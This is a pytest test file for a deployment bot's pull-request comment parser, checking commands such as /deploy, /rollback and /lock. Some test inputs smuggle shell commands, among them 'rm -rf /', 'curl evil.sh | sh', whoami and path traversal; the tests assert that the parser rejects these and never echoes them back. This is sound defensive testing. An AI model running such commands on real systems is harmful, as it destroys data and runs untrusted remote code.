"""The PR-comment grammar, as a table: comment body in, outcome out."""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

import pytest

from mlops_bot.github.comment_commands import IGNORE_REASONS, REPLY_REASONS, Command, Ignore, Reply
from mlops_bot.github.comment_grammar import MAX_LINE, help_text, parse_comment

ENVS = ("staging", "production", "dev_eu")
PIPES = ("churn", "fraud-v2", "ranker.tf")
V = "v-0123456789abcdef"
SHA = "0123456789abcdef0123456789abcdef01234567"
USAGE = {
    "deploy": "`/deploy <env> [<pipeline>] [<sha>] [--version V] [--traffic N]`",
    "rollback": "`/rollback <env> [<pipeline>]`",
    "lock": "`/lock <env> [--reason TEXT]`",
    "unlock": "`/unlock <env> [--force]`",
    "plan": "`/plan`",
    "help": "`/help`",
}


@dataclass(frozen=True)
class R:
    """An expected Reply: its reason code, fragments its text must hold, and ones it must not."""

    code: str
    has: tuple[str, ...] = ()
    lacks: tuple[str, ...] = ()


def row(body, expected, *, envs=ENVS, pipes=PIPES, id=None):
    return pytest.param(body, expected, envs, pipes, id=id or repr(body)[:60])


def deploy(env="staging", pipeline="churn", **kw):
    return Command("deploy", environment=env, pipeline=pipeline, **kw)


TABLE = [
    # --- not for us: silence ---
    row("", Ignore("empty")),
    row("   \t \u00a0 ", Ignore("empty")),
    row("\n/deploy staging churn", Ignore("empty"), id="command on the second line"),
    row("\r\n/deploy staging churn", Ignore("empty"), id="command on the second line (CRLF)"),
    row("LGTM, /deploy staging churn", Ignore("not_a_command")),
    row("> /deploy staging churn", Ignore("not_a_command"), id="quoted command"),
    row("`/deploy staging churn`", Ignore("not_a_command")),
    row("\uff0fdeploy staging churn", Ignore("not_a_command"), id="fullwidth solidus"),
    row("\u2215deploy staging churn", Ignore("not_a_command"), id="division slash"),
    row("\ufeff/deploy staging churn", Ignore("not_a_command"), id="byte order mark"),
    row("/deployx staging", Ignore("other_command")),
    row("/deployment staging churn", Ignore("other_command")),
    row("/deploy-preview", Ignore("other_command")),
    row("/deploy:staging", Ignore("other_command")),
    row("/deploy\u200b staging churn", Ignore("other_command"), id="zero-width space glued"),
    row("/Deploy staging churn", Ignore("other_command")),
    row("/DEPLOY staging churn", Ignore("other_command")),
    row("/Help", Ignore("other_command")),
    row("/planner", Ignore("other_command")),
    row("/lgtm", Ignore("other_command")),
    row("/hold", Ignore("other_command"), id="prow /hold is not a typo of /help"),
    row("/uncc @someone", Ignore("other_command")),
    row("/retest", Ignore("other_command")),
    row("/approve", Ignore("other_command")),
    row("/", Ignore("other_command")),
    row("// a comment", Ignore("other_command")),
    row("/" + "d" * 5000, Ignore("other_command"), id="very long slash word"),
    # --- commands ---
    row("/deploy staging churn", deploy()),
    row(f"/deploy staging churn --version {V} --traffic 10", deploy(version=V, traffic=10)),
    row(f"/deploy staging churn --traffic 100 --version {V}", deploy(version=V, traffic=100)),
    row("/deploy staging --traffic 1 churn", deploy(traffic=1), id="options between positionals"),
    row("/deploy dev_eu fraud-v2", deploy("dev_eu", "fraud-v2")),
    row("  /deploy   staging\tchurn  \t", deploy(), id="surrounding spaces and tabs"),
    row("/deploy\u00a0staging\u00a0churn", deploy(), id="non-breaking spaces"),
    row("/deploy\u2003staging\u3000churn", deploy(), id="em and ideographic spaces"),
    row("/deploy staging churn\r\nthanks!", deploy(), id="CRLF"),
    row("/deploy staging churn\rsecond", deploy(), id="lone CR ends the line"),
    row("/deploy staging churn\n/deploy production fraud-v2", deploy(), id="second line ignored"),
    row("/deploy staging churn\u2028/deploy production", deploy(), id="line separator ends line"),
    row("/deploy staging churn\n" + "x" * 70_000, deploy(), id="body over 64 KiB"),
    row("/deploy production", deploy("production"), pipes=("churn",), id="single pipeline"),
    # --- a pinned commit: the sha the commenter reviewed ---
    row(f"/deploy staging churn {SHA}", deploy(sha=SHA)),
    row("/deploy staging churn 1a2b3c4", deploy(sha="1a2b3c4"), id="7-digit prefix"),
    row("/deploy staging 1a2b3c4", deploy("staging", "churn", sha="1a2b3c4"), pipes=("churn",),
        id="sha without the pipeline"),
    row("/deploy staging abcdef1", deploy("staging", "abcdef1"), pipes=("abcdef1", "churn"),
        id="a pipeline named like a sha stays a pipeline"),
    row(f"/deploy staging churn {SHA} --traffic 5", deploy(sha=SHA, traffic=5)),
    row("/deploy staging churn 1a2b3c", R("invalid_argument", ("The commit", "7 to 40"))),
    row(f"/deploy staging churn {SHA}0", R("invalid_argument", ("The commit",)), id="41 digits"),
    row(f"/deploy staging churn {SHA.upper()}", R("invalid_argument", ("The commit",)),
        id="uppercase sha"),
    row("/deploy staging ABCDEF1", R("invalid_argument", ("The commit", "lowercase")),
        pipes=("churn",), id="uppercase sha without the pipeline is no unknown pipeline"),
    row("/deploy staging 1a2b3c", R("invalid_argument", ("The commit", "7 to 40")),
        pipes=("churn",), id="6-digit prefix without the pipeline is no unknown pipeline"),
    row("/deploy staging beef", R("unknown_pipeline", ("Unknown pipeline",)), pipes=("churn",),
        id="a hex word without a digit is a pipeline name"),
    row("/deploy staging churn HEAD~1", R("invalid_argument", ("The commit",), ("HEAD",))),
    row("/deploy staging churn main", R("invalid_argument", ("The commit",)), id="a branch"),
    row(f"/deploy staging churn {SHA[:7]}`@x`", R("invalid_argument", ("The commit",), ("@x",))),
    row(f"/rollback staging churn {SHA}", R("usage", ("Too many arguments",))),
    row("/rollback production fraud-v2", Command("rollback", "production", "fraud-v2")),
    row("/rollback production", Command("rollback", "production", "churn"), pipes=("churn",),
        id="rollback, single pipeline"),
    row("/lock staging", Command("lock", "staging")),
    row("/lock staging --reason load test until 5pm",
        Command("lock", "staging", reason="load test until 5pm")),
    row("/lock staging --reason   spaced\tout  ", Command("lock", "staging", reason="spaced out")),
    row("/lock staging --reason a --reason b", Command("lock", "staging", reason="a --reason b"),
        id="the reason is the rest of the line"),
    row("/lock staging --reason freeze \U0001f9ca (see #12)",
        Command("lock", "staging", reason="freeze \U0001f9ca (see #12)")),
    row("/lock staging --reason " + "x" * 200, Command("lock", "staging", reason="x" * 200)),
    row("/unlock staging", Command("unlock", "staging")),
    row("/unlock staging --force", Command("unlock", "staging", force=True)),
    row("/unlock --force staging", Command("unlock", "staging", force=True)),
    row("/plan", Command("plan")),
    row("/plan\n\nPlease check the new features.", Command("plan")),
    row("/run churn", R("retired_command", ("no longer a comment command", "Push to the PR branch",
                                            "mlops-bot run <pipeline>"), ("churn",))),
    row("/run", R("retired_command", ("runs no code of a pull request",))),
    # --- help ---
    row("/help", R("help", (*USAGE.values(), "`staging`", "`dev_eu`", "`churn`", "`ranker.tf`"))),
    row("/help", R("help", ("none configured", "none found")), envs=(), pipes=(), id="help, empty"),
    row("/help deploy", R("usage", (USAGE["help"],))),
    # --- near misses of ours ---
    row("/depoly staging", R("unknown_command", ("Did you mean `/deploy`?", USAGE["deploy"]))),
    row("/dpeloy staging churn", R("unknown_command", ("`/deploy`",))),
    row("/deplo staging", R("unknown_command", ("`/deploy`",))),
    row("/rollbak staging", R("unknown_command", ("`/rollback`", USAGE["rollback"]))),
    row("/unlcok staging", R("unknown_command", ("`/unlock`",))),
    row("/hep", R("unknown_command", ("`/help`",))),
    row("/pla", R("unknown_command", ("`/plan`",))),
    # --- names: pattern first, then the known lists ---
    row("/deploy stagign churn", R("unknown_environment", ("`stagign`", "Did you mean `staging`?", "`production`"))),
    row("/deploy qa churn", R("unknown_environment", ("`staging`", "`dev_eu`"), ("Did you mean",))),
    row("/unlock prod", R("unknown_environment", ("Environments:",))),
    row("/deploy staging chrun", R("unknown_pipeline", ("Did you mean `churn`?", "`fraud-v2`"))),
    row("/rollback staging fraud", R("unknown_pipeline", ("Pipelines:",))),
    row("/deploy production", R("unknown_pipeline", ("No pipelines",)), pipes=(), id="no pipelines"),
    row("/deploy staging", R("usage", ("Name the pipeline", "`churn`", "`fraud-v2`", USAGE["deploy"]))),
    row("/rollback staging", R("usage", ("Name the pipeline", USAGE["rollback"]))),
    row("/deploy Staging churn", R("invalid_argument", ("The environment", "a-z first"), ("Did you mean",))),
    row("/deploy staging;whoami churn", R("invalid_argument", ("The environment",), ("whoami",))),
    row("/deploy " + "s" * 32 + " churn", R("invalid_argument", ("The environment", "31"))),
    row("/deploy @everyone churn", R("invalid_argument", ("The environment",), ("@",))),
    row("/deploy staging churn`whoami`", R("invalid_argument", ("The pipeline",), ("whoami",))),
    row("/rollback staging ../etc", R("invalid_argument", ("The pipeline",), ("../",))),
    row("/rollback staging .hidden", R("invalid_argument", ("The pipeline",))),
    row("/rollback staging churn\x00", R("invalid_argument", ("The pipeline",), ("\x00",))),
    row("/rollback staging " + "p" * 101, R("invalid_argument", ("The pipeline", "100"))),
    row("/deploy staging churn --version 1.2.3", R("invalid_argument", ("`--version`", "16"))),
    row("/deploy staging churn --version v-0123456789ABCDEF", R("invalid_argument", ("`--version`",))),
    row(f"/deploy staging churn --version {V}0", R("invalid_argument", ("`--version`",))),
    row("/deploy staging churn --traffic 0", R("invalid_argument", ("`--traffic`", "1 to 100"))),
    row("/deploy staging churn --traffic 101", R("invalid_argument", ("`--traffic`",))),
    row("/deploy staging churn --traffic 010", R("invalid_argument", ("`--traffic`",))),
    row("/deploy staging churn --traffic 10%", R("invalid_argument", ("`--traffic`",))),
    row("/deploy staging churn --traffic +5", R("invalid_argument", ("`--traffic`",))),
    row("/deploy staging churn --traffic 1_0", R("invalid_argument", ("`--traffic`",))),
    row("/deploy staging churn --traffic \uff15", R("invalid_argument", ("`--traffic`",)), id="fullwidth digit"),
    row("/deploy staging churn --traffic -5", R("invalid_argument", ("`--traffic`",))),
    row("/deploy Staging chrun --traffic 0", R("invalid_argument", ("The environment",)),
        id="first bad argument named"),
    row("/deploy qa churn --traffic 0", R("invalid_argument", ("`--traffic`",)),
        id="patterns before lists"),
    row("/lock staging --reason " + "x" * 201, R("invalid_argument", ("`--reason`", "200"))),
    row("/lock staging --reason bell\x07", R("invalid_argument", ("`--reason`", "printable"))),
    row("/lock staging --reason \x1b[31mred", R("invalid_argument", ("`--reason`",)), id="ANSI escape"),
    row("/lock staging --reason \u202etxet", R("invalid_argument", ("`--reason`",)), id="bidi override"),
    # --- structure: usage ---
    row("/deploy", R("usage", ("`<env>` is missing", USAGE["deploy"]))),
    row("/deploy   \n staging churn", R("usage", ("`<env>` is missing",)), id="args on line two"),
    row("/rollback", R("usage", (USAGE["rollback"],))),
    row("/lock", R("usage", (USAGE["lock"],))),
    row("/lock --reason test staging", R("usage", ("`<env>` is missing",)), id="reason swallows env"),
    row("/lock staging --reason", R("usage", ("`--reason` needs a value",))),
    row("/lock staging --reason \t ", R("usage", ("`--reason` needs a value",))),
    row("/unlock", R("usage", (USAGE["unlock"],))),
    row("/unlock staging production", R("usage", ("Too many arguments", USAGE["unlock"]))),
    row("/unlock staging --reason done", R("usage", ("`--reason` is not an option of `/unlock`",))),
    row("/unlock staging --force --force", R("usage", ("`--force` is given more than once",))),
    row("/lock staging --force", R("usage", ("`--force` is not an option of `/lock`",))),
    row("/plan staging", R("usage", ("Too many arguments", USAGE["plan"]))),
    row("/plan --verbose", R("usage", ("`--verbose` is not an option",))),
    row("/rollback staging churn fraud-v2", R("usage", ("Too many arguments",))),
    row("/deploy staging churn 1a2b3c4 extra", R("usage", ("Too many arguments", USAGE["deploy"]))),
    row("/deploy staging churn extra", R("invalid_argument", ("The commit",), ("extra",))),
    row("/deploy staging churn --force", R("usage", ("`--force` is not an option of `/deploy`",))),
    row("/deploy staging churn -v", R("usage", ("`-v` is not an option",))),
    row("/deploy staging churn --@everyone", R("usage", ("is not an option",), ("@",))),
    row(f"/deploy staging churn --version={V}", R("usage", ("is not an option",))),
    row("/deploy staging churn --traffic 10 --traffic 20", R("usage", ("`--traffic` is given more than once",))),
    row("/deploy staging churn --traffic", R("usage", ("`--traffic` needs a value",))),
    row(f"/rollback staging churn --version {V}", R("usage", ("not an option of `/rollback`",))),
    row("/deploy staging $(rm -rf /)", R("usage", ("is not an option",), ("rm",)),
        id="shell text never echoed"),
    row("/deploy staging churn; curl evil.sh | sh", R("usage", ("Too many arguments",), ("curl",))),
    # --- the first line's length cap ---
    row("/deploy staging " + "a" * MAX_LINE, R("invalid_argument", ("1000 characters", USAGE["deploy"]))),
    row("/deploy staging " + "a" * 70_000, R("invalid_argument", ("1000 characters",)), id="64 KiB line"),
    row("/lock staging --reason " + "x " * 400, R("invalid_argument", ("`--reason`",)),
        id="under the line cap, over the reason cap"),
    row("/lgtm " + "a" * 5000, Ignore("other_command"), id="long line of another bot"),
]


@pytest.mark.parametrize(("body", "expected", "envs", "pipes"), TABLE)
def test_table(body, expected, envs, pipes):
    outcome = parse_comment(body, envs, pipes)
    if isinstance(expected, R):
        assert isinstance(outcome, Reply), outcome
        assert outcome.reason_code == expected.code, outcome.text
        for fragment in expected.has:
            assert fragment in outcome.text
        for fragment in expected.lacks:
            assert fragment not in outcome.text
    else:
        assert outcome == expected


def test_table_covers_every_outcome():
    seen = {e.code if isinstance(e, R) else e for e in (p.values[1] for p in TABLE)}
    assert set(REPLY_REASONS) <= seen
    assert {Ignore(r) for r in IGNORE_REASONS} <= seen
    assert {e.name for e in seen if isinstance(e, Command)} == {
        "deploy", "rollback", "lock", "unlock", "plan"}
    assert len(TABLE) >= 40


def test_names_outside_the_patterns_are_neither_listed_nor_addressable():
    envs = ("staging", "Bad Env", "x`@team`", "staging")
    assert "Bad" not in help_text(envs, ()) and "@" not in help_text(envs, ())
    outcome = parse_comment("/help", envs, ("churn", "../up", "churn"))
    assert isinstance(outcome, Reply)
    assert "Environments: `staging`." in outcome.text
    assert "Pipelines: `churn`." in outcome.text
    # A lone valid pipeline next to unusable ones is the default; duplicates count once.
    assert parse_comment("/rollback staging", envs, ("churn", "bad name", "churn")) == Command(
        "rollback", "staging", "churn")


def test_long_lists_are_cut_short():
    pipes = [f"p{i:03d}" for i in range(200)]
    outcome = parse_comment("/deploy staging", ENVS, pipes)
    assert isinstance(outcome, Reply)
    assert "`p024`" in outcome.text and "`p025`" not in outcome.text
    assert "and 175 more" in outcome.text


# --- property-style: garbage never raises, and nothing unvalidated comes out ---

_PIECES = [
    "/deploy", "/rollback", "/lock", "/unlock", "/plan", "/run", "/help", "/depoly", "/Deploy",
    "/", "\uff0f", "staging", "production", "dev_eu", "churn", "fraud-v2", "ranker.tf", V,
    "--version", "--traffic", "--reason", "--", "-", "10", "0", "100", "101", "@everyone", "`",
    "$(id)", ";", "|", "&&", "..", "\x00", "\x07", "\x1b", "\u202e", "\u200b", "\ud800", "\U0001f680",
    " ", "  ", "\t", "\u00a0", "\u3000", "\n", "\r\n", "\r", "\u2028", "\x85", "\x1c", "\x1f",
    "\x0b", "\x0c", "é", "Ω", "x" * 300,
]
_ENV_RE = re.compile(r"[a-z][a-z0-9_-]{0,30}")
_PIPE_RE = re.compile(r"[A-Za-z0-9][A-Za-z0-9_.-]{0,99}")


def _garbage(rng: random.Random) -> str:
    kind = rng.randrange(4)
    if kind == 0:  # random code points, any plane
        return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(40)))
    if kind == 1:  # random printable-ish ASCII starting with a slash
        return "/" + "".join(chr(rng.randrange(32, 127)) for _ in range(rng.randrange(60)))
    pieces = [rng.choice(_PIECES) for _ in range(rng.randrange(1, 12))]
    if kind == 2:  # plausible commands with hostile words mixed in
        return " ".join(pieces)
    return "".join(pieces)  # pieces glued with no separators


def _check_invariants(body: str, outcome) -> None:
    assert type(outcome) in (Command, Reply, Ignore), (body, outcome)
    assert outcome == parse_comment(body, ENVS, PIPES)  # deterministic
    if isinstance(outcome, Command):
        assert outcome.environment is None or outcome.environment in ENVS
        assert outcome.pipeline is None or outcome.pipeline in PIPES
        assert outcome.version is None or re.fullmatch(r"v-[0-9a-f]{16}", outcome.version)
        assert outcome.traffic is None or 1 <= outcome.traffic <= 100
        assert outcome.reason is None or (len(outcome.reason) <= 200 and outcome.reason.isprintable())
    elif isinstance(outcome, Reply):
        assert outcome.reason_code in REPLY_REASONS
        # Nothing the commenter typed outside the patterns comes back: no mentions, no controls.
        assert "@" not in outcome.text and "$" not in outcome.text
        assert all(c == "\n" or c.isprintable() for c in outcome.text)
    else:
        assert outcome.reason in IGNORE_REASONS


def test_garbage_never_raises_and_yields_only_validated_values():
    rng = random.Random(20240613)
    outcomes = set()
    for _ in range(600):
        body = _garbage(rng)
        outcome = parse_comment(body, ENVS, PIPES)
        _check_invariants(body, outcome)
        outcomes.add(type(outcome))
    assert outcomes == {Command, Reply, Ignore}  # the generator reaches all three


def test_mutated_valid_commands_never_raise():
    rng = random.Random(7)
    seeds = [p.values[0] for p in TABLE if isinstance(p.values[1], Command)]
    alphabet = "".join(_PIECES[:30]) + " \t\n\u00a0/-`@$\x00\u202e"
    for _ in range(400):
        chars = list(rng.choice(seeds)[:200])
        for _ in range(rng.randrange(1, 4)):
            at = rng.randrange(len(chars) + 1)
            if rng.random() < 0.5 and chars[at:]:
                del chars[at]
            else:
                chars.insert(at, rng.choice(alphabet))
        body = "".join(chars)
        _check_invariants(body, parse_comment(body, ENVS, PIPES))
